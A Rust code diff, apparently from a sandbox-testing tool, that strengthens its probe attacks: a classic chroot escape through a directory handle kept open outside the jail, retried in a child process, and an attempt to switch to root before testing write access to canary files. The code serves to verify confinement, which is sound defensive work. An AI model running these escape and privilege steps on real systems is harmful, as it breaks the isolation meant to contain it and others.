@@ -7,7 +7,7 @@ use std::{
     path::{Path, PathBuf},
 };
 
-use crate::{Attack, Blocked, Canaries, Outcome, Reached, Skipped, call, nested};
+use crate::{Attack, Blocked, Canaries, Outcome, Reached, Skipped, call, in_child, nested};
 
 pub const ATTACKS: &[Attack] = &[
     ("host_file", host_file),
@@ -49,12 +49,13 @@ fn host_socket(canaries: &Canaries) -> Outcome {
     }
 }
 
-/// The classic: leave a chroot through a directory kept open outside of it, with all rights over a nested namespace.
+/// The classic: leave a chroot through a directory kept open outside of it, with all rights over a nested namespace, or
+/// with those that are there.
 fn chroot_escape(canaries: &Canaries) -> Outcome {
     let Some(path) = canaries.get("file") else { return Skipped("no file") };
     let inside = PathBuf::from("/tmp/probe-chroot");
     let _ = fs::create_dir(&inside);
-    let code = nested(libc::CLONE_NEWNS, || {
+    let escape = || {
         let Ok(root) = File::open("/") else { return 2 };
         let to = std::os::fd::AsRawFd::as_raw_fd(&root) as usize;
         let Ok(jail) = CString::new("/tmp/probe-chroot") else { return 2 };
@@ -67,7 +68,11 @@ fn chroot_escape(canaries: &Canaries) -> Outcome {
             let _ = std::env::set_current_dir("..");
         }
         i32::from(File::open(path.trim_start_matches('/')).is_err())
-    });
+    };
+    let code = match nested(libc::CLONE_NEWNS, escape) {
+        0 => 0,
+        _ => in_child(escape),
+    };
     if code == 0 { Reached("out of the root".into()) } else { Blocked(format!("step {code}")) }
 }
 
@@ -99,8 +104,15 @@ fn layer_paths(canaries: &Canaries) -> Outcome {
     }
 }
 
+/// As it is, and as root if that can be become.
 fn writable(path: &str) -> Outcome {
-    Outcome::of(OpenOptions::new().write(true).open(path))
+    let open = || OpenOptions::new().write(true).open(path);
+    let code = in_child(|| {
+        let _ = call(libc::SYS_setresgid, &[0, 0, 0]);
+        let _ = call(libc::SYS_setresuid, &[0, 0, 0]);
+        i32::from(open().is_err())
+    });
+    if code == 0 { Reached("as root".into()) } else { Outcome::of(open()) }
 }
 
 fn devices(_: &Canaries) -> Outcome {
